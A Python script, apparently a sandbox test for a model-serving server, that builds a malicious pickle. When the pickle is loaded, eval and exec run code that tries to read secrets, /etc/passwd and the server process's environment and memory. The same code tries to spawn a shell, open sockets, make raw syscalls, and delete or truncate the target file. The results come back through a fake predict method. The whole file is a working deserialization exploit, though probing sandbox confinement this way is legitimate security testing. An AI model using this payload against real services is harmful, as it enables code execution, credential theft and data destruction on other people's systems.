"""Writes a pickle that tries, while it is read, what a model must not do; its `predict` answers with what it got."""

import pickle
import sys

target, port, out = sys.argv[1], int(sys.argv[2]), sys.argv[3]
code = r"""
import ctypes, json, os, socket, subprocess
found = {}
def attempt(name, work):
    try:
        found[name] = 'GOT ' + repr(work())[:80]
    except BaseException as error:
        found[name] = type(error).__name__
def call(*arguments):
    result = ctypes.CDLL(None, use_errno=True).syscall(*arguments)
    if result < 0:
        raise OSError('refused')
    return result
target, parent = %r, os.getppid()
attempt('read a secret', lambda: open(target).read())
attempt('read passwords', lambda: open('/etc/passwd').read())
attempt('list the root', lambda: os.listdir('/'))
attempt('read the server environment', lambda: open(f'/proc/{parent}/environ', 'rb').read())
attempt('read the server memory', lambda: open(f'/proc/{parent}/mem', 'rb').read(1))
attempt('find a secret in its environment', lambda: [name for name in os.environ if 'SECRET' in name][0])
attempt('connect', lambda: socket.create_connection(('127.0.0.1', %d), 1))
attempt('datagram', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
attempt('unix socket', lambda: socket.socket(socket.AF_UNIX))
attempt('fork', lambda: os.fork())
attempt('exec', lambda: os.execv('/bin/sh', ['sh']))
attempt('subprocess', lambda: subprocess.run(['/bin/echo', 'x'], capture_output=True))
attempt('write beside', lambda: open(target + '.new', 'w'))
attempt('overwrite', lambda: open(target, 'a'))
attempt('unlink', lambda: os.unlink(target))
attempt('truncate', lambda: os.truncate(target, 0))
attempt('chmod', lambda: os.chmod(target, 0o777))
attempt('signal the server', lambda: os.kill(parent, 0))
attempt('read by a link', lambda: (os.symlink(target, 'l'), open('l').read()))
attempt('io_uring', lambda: call(425, 1, ctypes.create_string_buffer(120)))
attempt('clone3', lambda: call(435, ctypes.create_string_buffer(88), 88))
attempt('pidfd', lambda: call(434, parent, 0))
class Said:
    n_features_in_ = 1
    def predict(self, x):
        return [json.dumps(found)] * len(x)
result = Said()
""" % (target, port)


class Malicious:
    def __reduce__(self):
        return (eval, ("(lambda n: (exec(%r, n), n['result'])[1])({})" % code,))


with open(out, "wb") as file:
    pickle.dump(Malicious(), file)
